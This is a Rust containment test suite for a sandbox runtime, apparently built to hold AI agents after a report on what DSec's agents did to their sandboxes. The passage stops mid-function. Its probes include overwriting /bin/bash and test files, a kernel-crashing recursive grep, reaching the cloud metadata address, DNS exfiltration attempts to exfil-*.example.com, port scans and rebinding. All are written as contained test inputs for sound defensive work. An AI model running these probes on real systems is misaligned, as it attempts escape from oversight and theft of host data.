//! The containment suite: what DSec's agents did to their sandboxes, tried on every backend
//! (fncall, container, microvm, vm), one scenario a test, each naming the line of
//! SECURITY.md it checks. Other lines have their tests beside the feature they guard (the
//! agent's integrity, masked kernel files, the syscall allowlist, evaluation, budgets,
//! streamed output); SECURITY.md's "Containment, tested" lists them all.

use std::net::TcpListener;
use std::sync::{OnceLock, RwLock, RwLockReadGuard, RwLockWriteGuard};
use std::time::Duration;

use strata_tests::home::{can_run_vms, text, SampleEnv};

const BACKENDS: [&str; 4] = ["fncall", "container", "microvm", "vm"];

static ENV: OnceLock<Option<SampleEnv>> = OnceLock::new();

/// Tests that measure the whole host (its memory in use, a neighbour's CPU throughput)
/// run alone; the others share the host with each other.
static HOST: RwLock<()> = RwLock::new(());

/// The sample environment, for a test that shares the host with others.
fn env(test: &str) -> Option<(&'static SampleEnv, RwLockReadGuard<'static, ()>)> {
    let env = sample(test)?;
    Some((env, HOST.read().unwrap_or_else(|p| p.into_inner())))
}

/// The sample environment, for a test that measures the whole host: no other test of
/// this suite runs meanwhile.
fn alone(test: &str) -> Option<(&'static SampleEnv, RwLockWriteGuard<'static, ()>)> {
    let env = sample(test)?;
    Some((env, HOST.write().unwrap_or_else(|p| p.into_inner())))
}

fn sample(test: &str) -> Option<&'static SampleEnv> {
    if !can_run_vms(test) {
        return None;
    }
    ENV.get_or_init(|| Some(SampleEnv::new("containment-")))
        .as_ref()
}

/// `strata run --backend B EXTRA... <sample> -- sh -c SCRIPT`: exit code, stdout, stderr.
fn run(
    env: &SampleEnv,
    backend: &str,
    extra: &[&str],
    script: &str,
) -> (Option<i32>, String, String) {
    let mut args = vec!["run", "--backend", backend];
    args.extend_from_slice(extra);
    args.extend([env.reference.as_str(), "--", "sh", "-c", script]);
    let o = env.cli(&args);
    let (out, err) = text(&o);
    (o.status.code(), out, err)
}

/// SECURITY.md, "the agent's integrity", point 4 (nothing of the host's layout shows) and
/// "the node service" (logs, state, audits and control sockets are the host's): none of
/// the runtime's paths exists inside (its home, state and audit directories, the lazyfs
/// control socket and log, the sandbox's own directory with its agent socket and key, a
/// VM's QMP socket), no Unix socket inside answers on the host's behalf, and nothing the
/// sandbox can read names the home.
#[test]
fn the_hosts_state_logs_and_sockets_are_out_of_sight() {
    let Some((env, _shared)) = env("containment_host_state") else {
        return;
    };
    let home = env.cli.home.display().to_string();
    let store = env.cli.store.display().to_string();
    for backend in BACKENDS {
        let id = env.create(&["--backend", backend]);
        let dir = format!("{home}/runtime/sandboxes/{id}");
        let paths = [
            home.clone(),
            store.clone(),
            format!("{home}/runtime"),
            format!("{home}/runtime/audit"),
            format!("{home}/lazyfs/run/control.sock"),
            format!("{home}/lazyfs/daemon.log"),
            dir.clone(),
            format!("{dir}/agent.sock"),
            format!("{dir}/agent.key"),
            format!("{dir}/qmp.sock"),
            "/run/strata".into(),
        ];
        // The probe is given the paths, as an agent that read our source would know them.
        let script = format!(
            "for p in {}; do test -e \"$p\" && echo \"SEEN $p\"; done; \
             for s in $(find / -xdev -type s 2>/dev/null); do echo \"SOCKET $s\"; done; \
             cat /proc/self/mountinfo /proc/self/cgroup /proc/1/cmdline /etc/hosts /etc/resolv.conf 2>/dev/null \
               | grep -c -F -e '{home}' -e '{store}' || true; echo probed",
            paths.iter().map(|p| format!("'{p}'")).collect::<Vec<_>>().join(" "),
            home = home,
            store = store,
        );
        let out = env.sh_ok(&id, &script);
        assert!(out.contains("probed"), "{backend}: {out}");
        assert!(
            !out.contains("SEEN "),
            "{backend}: host paths seen inside: {out}"
        );
        let sockets: Vec<&str> = out.lines().filter(|l| l.starts_with("SOCKET ")).collect();
        assert!(sockets.is_empty(), "{backend}: sockets inside: {sockets:?}");
        let named: u32 = out
            .lines()
            .rev()
            .nth(1)
            .and_then(|l| l.trim().parse().ok())
            .unwrap_or(u32::MAX);
        assert_eq!(named, 0, "{backend}: the home is named inside: {out}");
        env.ok(&["sandbox", "rm", &id]);
        // Each path, every socket inside, five files that could name the home.
        strata_tests::contained("host state, logs, sockets", backend, paths.len() + 2);
    }
}

/// SECURITY.md, "the sandbox's processes" (every file they leave is theirs): overwriting
/// `/bin/bash`, a `/usr/lib` file and the workspace's tests changes only that sandbox's
/// writable layer; the next sandbox of the same entry has the layers' files.
#[test]
fn overwritten_system_files_stay_in_their_sandbox() {
    let Some((env, _shared)) = env("containment_overwrite") else {
        return;
    };
    for backend in BACKENDS {
        let id = env.create(&["--backend", backend]);
        env.sh_ok(
            &id,
            "echo 'echo owned' > /usr/lib/os-release; echo 'def test_x(): pass' > /work/tests/test_wordfreq.py; \
             cp /bin/true /bin/bash",
        );
        assert_eq!(env.sh_ok(&id, "cat /usr/lib/os-release"), "echo owned\n");
        let (code, out, err) = run(
            env,
            backend,
            &[],
            "bash -c 'echo bash-works'; grep -c PRETTY_NAME /usr/lib/os-release; grep -c 'def test_x' /work/tests/test_wordfreq.py",
        );
        assert_eq!(
            (code, out.as_str()),
            (Some(1), "bash-works\n1\n0\n"),
            "{backend}: the next sandbox is not clean: {err}"
        );
        env.ok(&["sandbox", "rm", &id]);
        strata_tests::contained("overwrite /bin/bash, /usr/lib, the tests", backend, 3);
    }
}

/// SECURITY.md, "the host's kernel": the recursive grep that crashed a host kernel in
/// DSec's report (through /proc/kpagecgroup) completes inside, within its budgets, and
/// finds nothing of the host: a marker the test writes into files of the host (its /tmp,
/// the home) is not found, the same marker in a file of the sandbox's own is. The host's kernel taint flags are unchanged. Host backends
/// grep the whole root; VM guests the kernel and runtime trees (/proc, /sys, /dev, /run,
/// /etc, /tmp, /root; their /usr is the same layer and costs minutes under emulation).
#[test]
fn a_recursive_grep_of_everything_completes_and_finds_nothing_of_the_host() {
    let Some((env, _shared)) = env("containment_grep") else {
        return;
    };
    let marker = format!("strata-host-marker-{}", std::process::id());
    let host_files = [
        std::env::temp_dir().join(format!("{marker}.txt")),
        env.cli.home.join(format!("{marker}.txt")),
    ];
    for f in &host_files {
        std::fs::write(f, format!("{marker}\n")).expect("writing the marker");
    }
    let tainted = std::fs::read_to_string("/proc/sys/kernel/tainted").unwrap_or_default();
    for backend in BACKENDS {
        let roots = if backend.ends_with("vm") {
            "/proc /sys /dev /run /etc /tmp /root"
        } else {
            "/"
        };
        let (code, out, err) = run(
            env,
            backend,
            &["--timeout", "10m"],
            // The control: the marker in a file of the sandbox's own, which grep must find.
            &format!(
                "echo {marker} > /tmp/strata-control; grep -r -I -l -s {marker} {roots}; echo \"grep exit $?\""
            ),
        );
        assert_eq!(code, Some(0), "{backend}: {out}{err}");
        // 0: a match; 2: a match and a read the kernel refused somewhere (-s hides which).
        let (found, status) = out.trim_end().rsplit_once('\n').unwrap_or(("", out.trim()));
        assert!(
            status == "grep exit 0" || status == "grep exit 2",
            "{backend}: {out}{err}"
        );
        assert_eq!(
            found.lines().collect::<Vec<_>>(),
            ["/tmp/strata-control"],
            "{backend}: grep found the host's marker, or not its own"
        );
        assert!(!err.contains("budget exceeded"), "{backend}: {err}");
        strata_tests::contained("recursive grep of everything", backend, 1);
    }
    for f in &host_files {
        let _ = std::fs::remove_file(f);
    }
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/tainted").unwrap_or_default(),
        tainted,
        "the host kernel's taint flags changed"
    );
}

/// SECURITY.md, "the node service" (what a sandbox sends back crosses in bounded pieces
/// with back-pressure): `yes` into an exec's output (`STRATA_FLOOD_SECONDS`, 10 s by default;
/// the issue's minute by hand), on every backend, through the embedded CLI (streamed to its
/// reader: the CLI peaks under 96 MiB), the gRPC API's unary exec (4 MiB kept, `truncated`)
/// and the E2B API (streamed in pieces to the `e2b` SDK). Meanwhile the service's memory
/// grows by less than 128 MiB and its log by less than 64 KiB; afterwards the host's memory
/// is back within 64 MiB and the home's disk use within 64 MiB of before (layer data read
/// into its cache meanwhile is the home's; gigabytes of output are not).
#[test]
fn endless_output_is_bounded_through_every_way_in_on_every_backend() {
    let Some((env, _alone)) = alone("containment_flood") else {
        return;
    };
    let seconds: u64 = std::env::var("STRATA_FLOOD_SECONDS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(10);
    let home = env.cli.sharing_store("containment-flood-");
    let token = home.project_token(&format!("flood{}", std::process::id()));
    let svc = strata_tests::service::Service::start_e2b(&home, "exec_output_cap = \"4M\"\n");
    let disk_used = |p: &std::path::Path| -> u64 {
        strata_tests::sh(&format!(
            "du -sk --exclude=serve.log {} | cut -f1",
            p.display()
        ))
        .trim()
        .parse::<u64>()
        .unwrap_or(0)
            << 10
    };
    // Warm: the pools and caches the first sandboxes make are not the flood's.
    for backend in BACKENDS {
        home.ok(&["run", "--backend", backend, &env.reference, "--", "true"]);
    }
    let (rss, log) = (svc.peak_rss(), svc.log_text().len());
    let (memory, disk) = (strata_tests::host_used_bytes(), disk_used(&home.home));
    let mut report = Vec::new();
    for backend in BACKENDS {
        // The CLI, embedded: the command exits by its timeout (124), every byte read.
        let script = format!("timeout {seconds} yes");
        let cli = strata_tests::stream_and_watch(&mut home.cmd(&[
            "run",
            "--backend",
            backend,
            &env.reference,
            "--",
            "sh",
            "-c",
            &script,
        ]));
        assert_eq!(cli.status.code(), Some(124), "{backend}: {}", cli.stderr);
        assert!(
            cli.bytes > 1 << 20,
            "{backend}: {} bytes through the CLI",
            cli.bytes
        );
        assert!(
            cli.peak_kib > 0 && cli.peak_kib < 96 << 10,
            "{backend}: the CLI peaked at {} KiB",
            cli.peak_kib
        );
        // gRPC, a unary exec: capped and marked.
        let grpc = strata_tests::service::python_ok(
            &svc,
            &token,
            &format!(
                r#"
import asyncio, strata
async def main():
    async with strata.AsyncClient() as c:
        async with await c.create("{sample}", backend="{backend}") as sb:
            r = await sb.exec("timeout {seconds} yes", timeout="5m")
            assert r.truncated and len(r.stdout_raw) == 4 << 20, (r.truncated, len(r.stdout_raw))
            assert r.stdout_bytes > 4 << 20, r.stdout_bytes
            print(r.stdout_bytes)
asyncio.run(main())
"#,
                sample = env.reference
            ),
        );
        // The E2B API, streamed to the SDK.
        let o = strata_tests::service::e2b_client(
            strata_tests::service::e2b_python(strata_tests::service::E2B_PYTHON[0]),
            &svc.e2b_url(),
            &token,
        )
        .env("FLOOD_SECONDS", seconds.to_string())
        .arg(strata_tests::service::e2b_suite())
        .args(["flood", backend, &env.reference])
        .output()
        .expect("the e2b suite");
        let (out, err) = text(&o);
        assert!(
            o.status.success(),
            "{backend}: e2b flood ({}): {out}{err}",
            o.status
        );
        let e2b = out
            .lines()
            .find_map(|l| l.strip_prefix("FLOODED "))
            .unwrap_or_else(|| panic!("{backend}: {out}"))
            .to_string();
        strata_tests::contained("endless output: CLI, gRPC, E2B", backend, 3);
        report.push(format!(
            "{backend}: CLI {} MiB (peak {} MiB), gRPC {} MiB printed (4 MiB kept), E2B {} (bytes pieces)",
            cli.bytes >> 20,
            cli.peak_kib >> 10,
            grpc.trim().parse::<u64>().unwrap_or(0) >> 20,
            e2b
        ));
    }
    let grown = svc.peak_rss().saturating_sub(rss);
    let logged = svc.log_text().len().saturating_sub(log);
    drop(svc);
    assert!(grown < 128 << 20, "the service grew by {} MiB", grown >> 20);
    assert!(logged < 64 << 10, "the service logged {logged} bytes");
    home.ok(&["sandbox", "pool", "--drain"]);
    let left = strata_tests::home::sandboxes_in(&home.home);
    assert!(left.is_empty(), "sandboxes left: {left:?}");
    let after_disk = disk_used(&home.home);
    assert!(
        after_disk < disk + (64 << 20),
        "the home's disk use went from {} to {} MiB",
        disk >> 20,
        after_disk >> 20
    );
    let after = strata_tests::host_used_bytes();
    assert!(
        after < memory + (64 << 20),
        "the host's memory in use went from {} to {} MiB",
        memory >> 20,
        after >> 20
    );
    eprintln!(
        "flood ({seconds} s of yes each): service grew {} MiB, logged {logged} bytes; host memory {} -> {} MiB, home disk {} -> {} MiB\n{}",
        grown >> 20,
        memory >> 20,
        after >> 20,
        disk >> 20,
        after_disk >> 20,
        report.join("\n")
    );
}

/// SECURITY.md, "confinement every sandbox gets" (budgets in cgroups, a disk budget as a
/// filesystem of its own): the usual escapes from a budget are held and attributed. A
/// tmpfs filled inside counts against memory (VM guests; see below); page cache is
/// reclaimed within the budget; a disk's inodes run out like its bytes do; open files stop
/// at the descriptor limit.
#[test]
fn budget_escapes_are_held() {
    let Some((env, _shared)) = env("containment_budgets") else {
        return;
    };
    for backend in BACKENDS {
        // tmpfs pages are the sandbox's memory: /dev/shm filled under a 32 MiB budget
        // holds. In a VM guest the writer is killed at the budget and the budget named; on
        // fncall and container /dev/shm is a quarter of the budget (8 MiB), so the write is
        // refused and the sandbox lives on (were it as large as the budget, the OOM killer
        // would find only the agent to kill: tmpfs pages belong to no process).
        let (code, out, err) = run(
            env,
            backend,
            &["--memory", "32M"],
            "dd if=/dev/zero of=/dev/shm/fill bs=1M count=200 2>&1 | head -1; du -m /dev/shm/fill | cut -f1",
        );
        let held: u64 = out
            .lines()
            .last()
            .and_then(|l| l.trim().parse().ok())
            .unwrap_or_else(|| panic!("{backend}: no size of /dev/shm/fill: {out}{err}"));
        if backend.ends_with("vm") {
            assert!(
                held <= 32,
                "{backend}: /dev/shm held {held} MiB under a 32M budget"
            );
            assert!(err.contains("budget exceeded: memory"), "{backend}: {err}");
        } else {
            assert_eq!(
                code,
                Some(0),
                "{backend}: the sandbox did not live on: {out}{err}"
            );
            assert_eq!(held, 8, "{backend}: /dev/shm held {held} MiB: {out}");
            assert!(out.contains("No space left on device"), "{backend}: {out}");
        }

        // Page cache: a file four times the memory budget written and read back is
        // reclaimed within the budget, not charged past it (no OOM kill, no budget named).
        let (code, out, err) = run(
            env,
            backend,
            &["--memory", "32M", "--disk", "256M", "--timeout", "5m"],
            "dd if=/dev/zero of=/root/big bs=1M count=128 2>/dev/null && cat /root/big /root/big > /dev/null && echo survived",
        );
        assert_eq!(
            (code, out.trim()),
            (Some(0), "survived"),
            "{backend}: page cache past the budget: {err}"
        );
        assert!(!err.contains("budget exceeded"), "{backend}: {err}");

        // Inodes: a 16M disk runs out of them (or of bytes) for a million empty files.
        let (code, out, err) = run(
            env,
            backend,
            &["--disk", "16M", "--timeout", "5m"],
            "mkdir /root/many && python3 -c \"\nn = 0\ntry:\n    while n < 1000000:\n        open(f'/root/many/f{n}', 'w').close()\n        n += 1\nexcept OSError as e:\n    pass\nprint('made', n)\n\"",
        );
        assert_eq!(code, Some(0), "{backend}: {out}{err}");
        let made: u64 = out
            .trim()
            .strip_prefix("made ")
            .and_then(|n| n.parse().ok())
            .unwrap_or(u64::MAX);
        assert!(made < 1_000_000, "{backend}: {made} files on a 16M disk");
        assert!(err.contains("budget exceeded: disk"), "{backend}: {err}");

        // Open files: the descriptor limit holds for root inside.
        let (code, out, err) = run(
            env,
            backend,
            &[],
            "python3 -c \"\nimport os, resource\nfds = []\ntry:\n    while len(fds) < 5000000:\n        fds.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError as e:\n    print('stopped', len(fds), e.errno)\nprint('limit', resource.getrlimit(resource.RLIMIT_NOFILE)[1])\n\"",
        );
        assert_eq!(code, Some(0), "{backend}: {out}{err}");
        let stopped: u64 = out
            .split_whitespace()
            .nth(1)
            .and_then(|n| n.parse().ok())
            .unwrap_or(u64::MAX);
        assert!(
            out.starts_with("stopped") && stopped <= 1 << 20,
            "{backend}: {out}"
        );
        strata_tests::contained(
            "budget escapes: tmpfs, page cache, inodes, open files",
            backend,
            4,
        );
    }
}

/// SECURITY.md, "confinement every sandbox gets" (CPU in cgroups): a sandbox spinning
/// four threads on a 0.5-CPU budget gets no more than that, as its cgroup's CPU counter
/// shows over a few seconds, and a neighbour keeps its throughput: a counting loop in a
/// sandbox of one CPU counts, while the spinner runs, at least 0.55 of what it counted
/// alone a moment before (unthrottled, four spinning threads on two cores would leave it
/// about 0.4). Host backends; machines have the next test.
#[test]
fn a_cpu_budget_holds_against_a_spinning_sandbox() {
    let Some((env, _alone)) = alone("containment_cpu") else {
        return;
    };
    const COUNT: &str = "python3 -c \"\nimport time\nstop = time.time() + 4\nn = 0\nwhile time.time() < stop: n += 1\nprint(n)\n\"";
    for backend in ["fncall", "container"] {
        let neighbour = env.create(&["--backend", backend, "--cpus", "1"]);
        let alone: f64 = env.sh_ok(&neighbour, COUNT).trim().parse().unwrap_or(0.0);
        let id = env.create(&["--backend", backend, "--cpus", "0.5"]);
        let spinner = env
            .cmd(&[
                "sandbox",
                "exec",
                &id,
                "--",
                "python3",
                "-c",
                "import threading, time, os\nstop = time.time() + 6\ndef spin():\n    while time.time() < stop: pass\nts = [threading.Thread(target=spin) for _ in range(4)]\n[t.start() for t in ts]\n[t.join() for t in ts]\nt = os.times()\nprint(t.user + t.system)",
            ])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("the spinner");
        std::thread::sleep(Duration::from_millis(1000));
        let beside: f64 = env.sh_ok(&neighbour, COUNT).trim().parse().unwrap_or(0.0);
        let out = spinner.wait_with_output().expect("the spinner");
        let used: f64 = String::from_utf8_lossy(&out.stdout)
            .trim()
            .parse()
            .unwrap_or(f64::MAX);
        // 6 s at half a CPU is 3 s; four threads unthrottled on two cores would take 12.
        assert!(
            used <= 3.0 * 1.35,
            "{backend}: {used:.2} s of CPU in 6 s on a 0.5-CPU budget"
        );
        let kept = beside / alone.max(1.0);
        eprintln!(
            "{backend}: the neighbour kept {kept:.2} of its throughput ({beside} vs {alone} alone)"
        );
        assert!(
            kept >= 0.55,
            "{backend}: the neighbour kept {kept:.2} of its throughput ({beside} vs {alone} alone)"
        );
        for sb in [&id, &neighbour] {
            env.ok(&["sandbox", "rm", sb]);
        }
        strata_tests::contained(
            "CPU beyond its budget, a neighbour's throughput",
            backend,
            2,
        );
    }
}

/// SECURITY.md, "confinement every sandbox gets" (a machine's CPU): a VM's vCPUs are
/// threads of QEMU in the sandbox's host cgroup, so a budget below its vCPUs holds on the
/// host: a machine of 1.2 CPUs (two vCPUs) spinning four processes uses no more than
/// 1.25 times its budget of host CPU over three seconds (unthrottled, its two vCPUs would
/// take both cores: 2.0), as the cgroup's own counter shows; and a one-CPU neighbour
/// machine counts, beside it, at least 0.55 of what it counted alone.
#[test]
fn a_machines_cpu_budget_holds_on_the_host() {
    let Some((env, _alone)) = alone("containment_machine_cpu") else {
        return;
    };
    const COUNT: &str = "python3 -c \"\nimport time\nstop = time.time() + 4\nn = 0\nwhile time.time() < stop: n += 1\nprint(n)\n\"";
    const BUDGET: f64 = 1.2;
    for backend in ["microvm", "vm"] {
        let neighbour = env.create(&["--backend", backend, "--cpus", "1"]);
        let alone: f64 = env.sh_ok(&neighbour, COUNT).trim().parse().unwrap_or(0.0);
        let id = env.create(&["--backend", backend, "--cpus", &BUDGET.to_string()]);
        assert_eq!(env.sh_ok(&id, "nproc").trim(), "2", "{backend}: its vCPUs");
        let spinner = env
            .cmd(&[
                "sandbox",
                "exec",
                &id,
                "--",
                "sh",
                "-c",
                "for i in 1 2 3 4; do timeout 12 sh -c 'while :; do :; done' & done; wait",
            ])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("the spinner");
        std::thread::sleep(Duration::from_secs(1));
        let before = cgroup_cpu_seconds(&id);
        std::thread::sleep(Duration::from_secs(3));
        let used = (cgroup_cpu_seconds(&id) - before) / 3.0;
        let beside: f64 = env.sh_ok(&neighbour, COUNT).trim().parse().unwrap_or(0.0);
        let mut spinner = spinner;
        spinner.wait().expect("the spinner");
        eprintln!("{backend}: {used:.2} host CPUs used on a budget of {BUDGET}");
        assert!(
            used <= BUDGET * 1.25,
            "{backend}: {used:.2} host CPUs used on a budget of {BUDGET}"
        );
        let kept = beside / alone.max(1.0);
        eprintln!(
            "{backend}: the neighbour kept {kept:.2} of its throughput ({beside} vs {alone} alone)"
        );
        assert!(
            kept >= 0.55,
            "{backend}: the neighbour kept {kept:.2} of its throughput ({beside} vs {alone} alone)"
        );
        for sb in [&id, &neighbour] {
            env.ok(&["sandbox", "rm", sb]);
        }
        strata_tests::contained(
            "CPU beyond its budget, a neighbour's throughput",
            backend,
            2,
        );
    }
}

/// CPU time used so far by the sandbox `id`'s host cgroup, in seconds: v1's
/// `cpuacct.usage` under the cpuacct hierarchy, v2's `usage_usec` in `cpu.stat`.
fn cgroup_cpu_seconds(id: &str) -> f64 {
    let found = |root: &std::path::Path| -> Option<std::path::PathBuf> {
        let mut dirs = vec![(root.to_path_buf(), 0)];
        while let Some((dir, depth)) = dirs.pop() {
            if dir.file_name().is_some_and(|n| n == id) {
                return Some(dir);
            }
            if depth < 3 {
                for e in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
                    if e.file_type().is_ok_and(|t| t.is_dir()) {
                        dirs.push((e.path(), depth + 1));
                    }
                }
            }
        }
        None
    };
    let v1 = std::path::Path::new("/sys/fs/cgroup/cpuacct");
    if let Some(dir) = v1.exists().then(|| found(v1)).flatten() {
        let ns: u64 = std::fs::read_to_string(dir.join("cpuacct.usage"))
            .expect("cpuacct.usage")
            .trim()
            .parse()
            .expect("a count of nanoseconds");
        return ns as f64 / 1e9;
    }
    let dir = found(std::path::Path::new("/sys/fs/cgroup"))
        .unwrap_or_else(|| panic!("no cgroup named {id}"));
    let stat = std::fs::read_to_string(dir.join("cpu.stat")).expect("cpu.stat");
    let usec: u64 = stat
        .lines()
        .find_map(|l| l.strip_prefix("usage_usec "))
        .and_then(|v| v.trim().parse().ok())
        .expect("usage_usec");
    usec as f64 / 1e6
}

/// SECURITY.md, "the node service" (sandboxes reach the service no more than the host):
/// a sandbox without an allowlist reaches nothing: not the host's addresses (a listener
/// the test opens on all of them), not the host's loopback, not private ranges nor the
/// cloud metadata address, and names do not resolve (no DNS to exfiltrate through).
#[test]
fn nothing_of_the_host_or_the_private_network_is_reachable() {
    let Some((env, _shared)) = env("containment_network") else {
        return;
    };
    let listener = TcpListener::bind("0.0.0.0:0").expect("a listener on the host");
    let port = listener.local_addr().expect("its port").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let host_addr = host_address();
    for backend in BACKENDS {
        let targets = format!(
            "127.0.0.1:{port} {host_addr}:{port} 169.254.169.254:80 10.0.0.1:80 172.16.0.1:80 192.168.0.1:80 10.0.2.2:{port} 10.0.2.3:53"
        );
        let script = format!(
            "python3 -c \"\nimport socket\nfor t in '{targets}'.split():\n    h, p = t.rsplit(':', 1)\n    try:\n        socket.create_connection((h, int(p)), timeout=2).close(); print('REACHED', t)\n    except OSError as e:\n        print('closed', t)\ntry:\n    socket.getaddrinfo('exfil-{port}.example.com', 80); print('RESOLVED')\nexcept OSError:\n    print('no dns')\n\""
        );
        let (code, out, err) = run(env, backend, &["--timeout", "2m"], &script);
        assert_eq!(code, Some(0), "{backend}: {out}{err}");
        assert!(!out.contains("REACHED"), "{backend}: {out}");
        assert!(!out.contains("RESOLVED"), "{backend}: {out}");
        assert_eq!(out.matches("closed").count(), 8, "{backend}: {out}");
        // Nothing came in on the host's side either.
        if let Ok((_, from)) = listener.accept() {
            panic!("{backend}: a sandbox connected to the host's listener from {from}");
        }
        strata_tests::contained("reach the host, private ranges, metadata, DNS", backend, 9);
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// SECURITY.md, "the network" (every refused attempt is in the audit): a networked
/// sandbox (one allowed address) scanning the host's address, private ranges, the cloud
/// metadata address and public resolvers, over TCP and UDP, reaches none of them, and its
/// audit records each destination with how many packets were refused and when the first
/// was, within the scan's window. On every backend (a VM's tap meets the same rules).
#[test]
fn a_port_scan_is_refused_and_recorded_with_counts_and_times() {
    let Some((env, _shared)) = env("containment_scan") else {
        return;
    };
    let host_addr = host_address();
    let tcp = [
        format!("{host_addr}:22"),
        format!("{host_addr}:7600"),
        "10.0.0.1:22".to_string(),
        "172.16.0.1:80".to_string(),
        "192.168.0.1:443".to_string(),
        "169.254.169.254:80".to_string(),
        "1.1.1.1:443".to_string(),
    ];
    let udp = ["8.8.8.8:53", "169.254.169.254:53"];
    let script = format!(
        "python3 -c \"\nimport socket, concurrent.futures as cf\ndef tcp(t):\n    h, p = t.rsplit(':', 1)\n    try:\n        socket.create_connection((h, int(p)), timeout=3).close(); return 'REACHED ' + t\n    except OSError:\n        return 'closed ' + t\nwith cf.ThreadPoolExecutor(8) as ex:\n    print(chr(10).join(ex.map(tcp, '{tcp}'.split())))\nfor t in '{udp}'.split():\n    h, p = t.rsplit(':', 1)\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n    for _ in range(3):\n        s.sendto(b'exfil.example.com', (h, int(p)))\n    try:\n        s.recv(1); print('ANSWERED', t)\n    except OSError:\n        print('unanswered', t)\n\"",
        tcp = tcp.join(" "),
        udp = udp.join(" "),
    );
    for backend in BACKENDS {
        let start_ms = now_ms();
        let id = env.create(&["--backend", backend, "--net", "198.51.100.1:9"]);
        let out = env.sh_ok(&id, &script);
        assert!(
            !out.contains("REACHED") && !out.contains("ANSWERED"),
            "{backend}: {out}"
        );
        assert_eq!(out.matches("closed").count(), tcp.len(), "{backend}: {out}");
        env.ok(&["sandbox", "rm", &id]);
        let end_ms = now_ms();
        let audit = env.ok(&["sandbox", "audit", &id]);
        let refused: serde_json::Value = audit
            .lines()
            .find(|l| l.contains("\"network-refused\""))
            .and_then(|l| serde_json::from_str(l).ok())
            .unwrap_or_else(|| panic!("{backend}: no network-refused in {audit}"));
        let attempts = refused["attempts"].as_array().expect("attempts");
        for dest in tcp.iter().map(String::as_str).chain(udp) {
            let a = attempts
                .iter()
                .find(|a| a["destination"] == dest)
                .unwrap_or_else(|| panic!("{backend}: {dest} not recorded: {refused}"));
            let packets = a["packets"].as_u64().unwrap_or(0);
            let first = a["first_ms"].as_u64().unwrap_or(0);
            assert!(packets >= 1, "{backend}: {dest}: {a}");
            if udp.contains(&dest) {
                assert!(packets >= 3, "{backend}: three datagrams to {dest}: {a}");
            }
            // The set keeps times to the second.
            assert!(
                first + 1000 >= start_ms && first <= end_ms,
                "{backend}: {dest} first refused at {first}, not within {start_ms}..{end_ms}"
            );
        }
        strata_tests::contained("port scan, recorded", backend, tcp.len() + udp.len());
    }
}

fn now_ms() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0)
}

/// SECURITY.md, "the network": rules by name hold outside the sandbox. With `debian`-like
/// names (`*.debian.org:80`), the `pypi` rule set and the host's own name allowed, a
/// sandbox resolves and reaches exactly the allowed names; a name no rule allows gets
/// NXDOMAIN, also when asked of a public resolver directly (the query reaches only the
/// proxy); a forged Host or TLS server name, or an address no answer gave, is cut off; an
/// allowed name that resolves to the host itself (as a rebinding attacker's name would)
/// is answered with no address, and the host's listener sees nothing. The audit lists the
/// allowed and denied names and destinations; nothing of the proxy outlives the sandbox.
/// The same on every backend: a VM's network card is the other end of a tap device on the
/// host, where the same rules and the same proxy stand.
#[test]
fn names_reach_only_their_hosts_through_the_egress_proxy() {
    let Some((env, _shared)) = env("containment_egress") else {
        return;
    };
    let listener = TcpListener::bind("0.0.0.0:0").expect("a listener on the host");
    let port = listener.local_addr().expect("its port").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let host_name = strata_tests::sh("hostname").trim().to_string();
    let host_addr = host_address();
    let probe = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("probes/egress.py"),
    )
    .expect("the egress probe");
    let own_rule = format!("{host_name}:{port}");
    for backend in BACKENDS {
        let id = env.create(&[
            "--backend",
            backend,
            "--net",
            "pypi",
            "--net",
            "*.debian.org:80",
            "--net",
            &own_rule,
        ]);
        let o = env.cli(&[
            "sandbox",
            "exec",
            &id,
            "--",
            "python3",
            "-c",
            &probe,
            &host_name,
            &port.to_string(),
            &host_addr,
            "127.0.0.1",
        ]);
        let (out, err) = text(&o);
        assert!(o.status.success(), "{backend}: {out}{err}");
        let answer = |what: &str| {
            out.lines()
                .find_map(|l| l.strip_prefix(&format!("{what} ")))
                .unwrap_or_else(|| panic!("{backend}: no {what} in {out}"))
                .to_string()
        };
        for allowed in ["dns-allowed", "tls-allowed"] {
            assert!(answer(allowed).starts_with("ok"), "{backend}: {out}");
        }
        assert!(
            answer("http-allowed").starts_with("ok HTTP/1.1_"),
            "{backend}: {out}"
        );
        assert_eq!(
            answer("dns-raw-denied"),
            "ok 3",
            "{backend}: NXDOMAIN expected: {out}"
        );
        assert_eq!(answer("dns-raw-allowed"), "ok 0", "{backend}: {out}");
        for refused in [
            "dns-denied",
            "http-host-forged",
            "http-address-not-given",
            "tls-sni-forged",
            "rebind-dns",
        ] {
            assert!(
                answer(refused).starts_with("refused"),
                "{backend}: {refused}: {out}"
            );
        }
        for addr in [host_addr.as_str(), "127.0.0.1"] {
            assert!(
                answer(&format!("rebind-connect-{addr}")).starts_with("refused"),
                "{backend}: {out}"
            );
        }
        if let Ok((_, from)) = listener.accept() {
            panic!("{backend}: a sandbox connected to the host's listener from {from}");
        }
        env.ok(&["sandbox", "rm", &id]);
        env.assert_gone(&id, &[]);
        assert!(
            !strata_tests::sh("nft list table inet strata").contains(&id),
            "{backend}: rules left"
        );
        assert!(
            !strata_tests::sh("ps -eo args").contains(&format!("{id}/egress.json")),
            "{backend}: the egress proxy outlived its sandbox"
        );
        let audit = env.ok(&["sandbox", "audit", &id]);
        let egress = audit
            .lines()
            .find(|l| l.contains("\"network-egress\""))
            .unwrap_or_else(|| panic!("{backend}: no network-egress in {audit}"));
        let record: serde_json::Value = serde_json::from_str(egress).expect("audit JSON");
        let entries = record["entries"].as_array().expect("entries");
        let has = |kind: &str, name: &str, allowed: bool| {
            entries
                .iter()
                .any(|e| e["kind"] == kind && e["name"] == name && e["allowed"] == allowed)
        };
